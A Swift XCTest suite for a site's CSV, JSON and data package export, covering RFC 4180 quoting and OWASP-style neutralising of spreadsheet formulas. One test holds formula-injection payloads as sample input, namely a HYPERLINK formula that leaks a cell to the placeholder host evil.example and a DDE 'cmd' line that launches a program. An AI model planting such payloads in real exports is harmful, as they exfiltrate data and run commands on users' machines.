import Foundation
import XCTest
@testable import ZISite

final class DataTableTests: XCTestCase {
    private let table = DataTable(
        name: "uji", title: "Uji", description: "Uji",
        fields: [.init(name: "teks", type: .string, description: "t"), .init(name: "jumlah", type: .integer, description: "j"),
                 .init(name: "nilai", type: .number, description: "n"), .init(name: "tanggal", type: .date, description: "d")],
        rows: [
            [.text("Sistem, Mekanisme, dan Prosedur"), .integer(1250), .number(Decimal(string: "3.5")!), .date(CalendarDate(year: 2025, month: 9, day: 8)!)],
            [.text("kata \"kutip\"\nbaris baru\tdan tab"), .empty, .empty, .empty],
        ])

    /// RFC 4180: CRLF rows, a cell with a comma, quote or line break quoted
    /// and its quotes doubled; a decimal point and ISO dates for machines.
    func testCSVQuotesWhatNeedsQuotingAndWritesNumbersForMachines() {
        XCTAssertEqual(String(decoding: table.csv(), as: UTF8.self), "teks,jumlah,nilai,tanggal\r\n\"Sistem, Mekanisme, dan Prosedur\",1250,3.5,2025-09-08\r\n\"kata \"\"kutip\"\"\nbaris baru\tdan tab\",,,\r\n")
    }

    /// A comma or a quote followed by a combining mark is one Swift
    /// `Character`, but a spreadsheet splits the row at the comma.
    func testACommaOrQuoteJoinedToAMarkIsStillQuoted() {
        for joiner in JoiningScalars.all {
            XCTAssertEqual(DataTable.csvField("Dokumen," + String(joiner) + "KOLOM"), "\"Dokumen," + String(joiner) + "KOLOM\"")
            XCTAssertEqual(DataTable.csvField("a\"" + String(joiner) + "b"), "\"a\"\"" + String(joiner) + "b\"")
        }
        XCTAssertEqual(DataTable.csvField("satu\u{2028}dua"), "\"satu\u{2028}dua\"")
    }

    /// OWASP: a cell a spreadsheet would run gets a leading apostrophe in
    /// the CSV; the JSON keeps the text as written.
    func testAFormulaIsNeutralisedInTheCSVAndKeptInTheJSON() throws {
        let formula = "=HYPERLINK(\"https://evil.example/?d=\"&A3,\"Klik\")"
        let hostile = DataTable(name: "uji", title: "Uji", description: "Uji",
                                fields: [.init(name: "teks", type: .string, description: "Teks")],
                                rows: [[.text(formula)], [.text("+1+cmd|' /C calc'!A0")], [.text("-2+3")], [.text("@SUM(A1)")],
                                       [.text("\t=1")], [.text("\r=1")], [.text("-12,5")], [.text("+62")], [.text("-")], [.text("a=b")],
                                       [.text("=" + "\u{301}" + "1+1")]])
        XCTAssertEqual(String(decoding: hostile.csv(), as: UTF8.self).components(separatedBy: "\r\n").dropFirst().dropLast(), [
            "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A3,\"\"Klik\"\")\"", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)",
            "'\t=1", "\"'\r=1\"", "\"-12,5\"", "+62", "-", "a=b", "'=\u{301}1+1",
        ])
        let json = try XCTUnwrap(JSONSerialization.jsonObject(with: hostile.json()) as? [[String: String]])
        XCTAssertEqual(json.first?["teks"], formula)
    }

    func testJSONIsAnArrayOfObjectsWithTypedValuesAndNulls() throws {
        let json = String(decoding: table.json(), as: UTF8.self)
        XCTAssertTrue(json.contains(#"{"teks": "Sistem, Mekanisme, dan Prosedur", "jumlah": 1250, "nilai": 3.5, "tanggal": "2025-09-08"}"#), json)
        let parsed = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: Any]])
        XCTAssertEqual(parsed[1]["teks"] as? String, "kata \"kutip\"\nbaris baru\tdan tab")
        XCTAssertTrue(parsed[1]["jumlah"] is NSNull)
    }

    func testThePackageDescribesEachTableAsCSVAndJSONWithItsSchema() throws {
        let package = DataPackage(name: "zi", title: "Data \"ZI\"", tables: [table]).json()
        let parsed = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(package.utf8)) as? [String: Any])
        XCTAssertEqual(parsed["profile"] as? String, "tabular-data-package")
        XCTAssertEqual(parsed["title"] as? String, "Data \"ZI\"")
        let resources = try XCTUnwrap(parsed["resources"] as? [[String: Any]])
        XCTAssertEqual(resources.map { $0["path"] as? String }, ["data/uji.csv", "data/uji.json"])
        XCTAssertEqual(resources.map { $0["format"] as? String }, ["csv", "json"])
        let fields = try XCTUnwrap((resources[0]["schema"] as? [String: Any])?["fields"] as? [[String: Any]])
        XCTAssertEqual(fields.map { $0["type"] as? String }, ["string", "integer", "number", "date"])
    }
}
